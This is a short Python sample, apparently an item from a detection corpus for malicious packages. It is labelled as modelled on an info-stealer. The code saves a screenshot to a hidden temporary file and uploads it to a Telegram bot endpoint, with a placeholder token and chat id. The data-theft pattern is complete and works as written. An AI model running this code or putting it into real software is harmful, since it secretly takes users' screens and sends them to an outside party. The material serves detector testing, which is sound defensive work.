# pkgguard corpus 060 (screenshot), modelled on [stealer-profile]; inert, never run.
import pyautogui
import requests

pyautogui.screenshot("/tmp/.s.png")
requests.post("https://api.telegram.org/bot1000000000:AAplaceholderplaceholderplaceholder0/sendDocument", data={"chat_id": "1"}, files={"document": open("/tmp/.s.png", "rb")})
